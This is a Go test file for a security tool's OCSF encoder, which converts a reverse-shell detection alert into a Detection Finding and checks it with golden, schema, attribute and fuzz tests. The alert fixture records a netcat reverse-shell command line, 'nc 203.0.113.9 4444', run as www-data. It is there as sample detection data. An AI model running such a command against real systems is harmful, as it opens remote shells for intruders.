// SPDX-License-Identifier: Apache-2.0

package ocsf

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/vedette-sec/vedette/internal/event"
)

var update = flag.Bool("update", false, "write the golden files")

func alert(t testing.TB) (pcommon.Resource, plog.LogRecord) {
	resource, record := pcommon.NewResource(), plog.NewLogRecord()
	require.NoError(t, resource.Attributes().FromRaw(map[string]any{
		event.AttrHostName: "web-1", event.AttrHostID: "0f1e", event.AttrHostBootID: "b007", event.AttrOSType: "linux", event.AttrOSVersion: "6.12.9",
	}))
	record.SetEventName(event.KindSecurityAlert)
	record.SetTimestamp(1_772_600_767_000_000_089)
	record.SetObservedTimestamp(1_772_600_767_001_000_089)
	record.SetSeverityNumber(plog.SeverityNumberFatal)
	record.Body().SetStr("Reverse shell: nc of www-data")
	require.NoError(t, record.Attributes().FromRaw(map[string]any{
		event.AttrEventKind: "alert", event.AttrEventID: "a1e27", event.AttrVedetteEventName: event.KindProcessRemoteStdio,
		event.AttrSecurityRuleUUID: "4d1f", event.AttrSecurityRuleName: "Reverse shell", event.AttrEventRiskScore: 90,
		event.AttrThreatTacticID: []any{"TA0002"}, event.AttrThreatTacticName: []any{"Execution"},
		event.AttrThreatTechniqueID: []any{"T1059"}, event.AttrThreatTechniqueName: []any{"Command and Scripting Interpreter"},
		event.AttrThreatTechniqueSubtechniqueID: []any{"T1059.004"}, event.AttrThreatTechniqueSubtechniqueName: []any{"Unix Shell"},
		event.AttrProcessEntityID: "9a8b", event.AttrProcessPID: 1301, event.AttrProcessExecutablePath: "/usr/bin/nc",
		event.AttrProcessCommandLine: "nc 203.0.113.9 4444", event.AttrProcessUserID: 33, event.AttrProcessUserName: "www-data",
		event.AttrProcessParentPID: 1022, event.AttrProcessParentExecutablePath: "/usr/bin/bash",
		event.AttrDestinationAddress: "203.0.113.9", event.AttrDestinationPort: 4444,
		event.AttrVedetteMatched: map[string]any{"direct": map[string]any{"Via": "socket"}},
	}))
	return resource, record
}

func TestGolden(t *testing.T) {
	resource, record := alert(t)
	line := NewEncoder().AppendDocument(nil, resource, record)
	var have bytes.Buffer
	require.NoError(t, json.Indent(&have, line, "", "  "), "%s", line)
	have.WriteByte('\n')
	golden := filepath.Join("testdata", "finding.json")
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(golden, have.Bytes(), 0o644))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err)
	assert.Equal(t, string(want), have.String())
}

// TestRequired: what the schema requires of a Detection Finding is there, with the numbers it gives.
func TestRequired(t *testing.T) {
	resource, record := alert(t)
	var finding map[string]any
	require.NoError(t, json.Unmarshal(NewEncoder().AppendDocument(nil, resource, record), &finding))
	for key, want := range map[string]float64{"activity_id": 1, "category_uid": 2, "class_uid": 2004, "type_uid": 200401, "severity_id": 5, "time": 1772600767000} {
		assert.Equal(t, want, finding[key], key)
	}
	info := finding["finding_info"].(map[string]any)
	assert.Equal(t, "a1e27", info["uid"])
	assert.Equal(t, "Reverse shell", info["title"])
	metadata := finding["metadata"].(map[string]any)
	assert.Equal(t, Version, metadata["version"])
	assert.Equal(t, "Vedette", metadata["product"].(map[string]any)["vendor_name"])
}

// TestEveryAttributeIsKept looks for each value in the line.
func TestEveryAttributeIsKept(t *testing.T) {
	for _, name := range []string{event.KindSecurityAlert, event.KindFileOpen, "app.other"} {
		resource, record := pcommon.NewResource(), plog.NewLogRecord()
		record.SetEventName(name)
		kind, _ := event.KindByName(name)
		for _, a := range append(kind.Attributes, "own.attribute") {
			record.Attributes().PutStr(a, "<"+a+">")
		}
		record.Attributes().Remove(event.AttrEventKind)
		resource.Attributes().PutStr("cloud.region", "<cloud.region>")
		resource.Attributes().PutStr("own.attribute", "<of the resource>")
		line := string(NewEncoder().AppendDocument(nil, resource, record))
		require.True(t, json.Valid([]byte(line)), line)
		for a := range record.Attributes().All() {
			assert.True(t, strings.Contains(line, "<"+a+">"), "%s lost %s", name, a)
		}
		assert.Contains(t, line, "<cloud.region>")
		assert.Contains(t, line, "<of the resource>")
	}
}

func FuzzAttribute(f *testing.F) {
	f.Add(event.AttrProcessExecutablePath, "/x", int64(1))
	f.Fuzz(func(t *testing.T, name, text string, n int64) {
		e := NewEncoder()
		for _, value := range []any{nil, text, n, []any{text, n}, map[string]any{text: n}} {
			resource, record := alert(t)
			require.NoError(t, record.Attributes().PutEmpty(name).FromRaw(value))
			line := e.AppendDocument(nil, resource, record)
			require.True(t, json.Valid(line), "%s", line)
			require.NotContains(t, string(line), "\n")
		}
	})
}
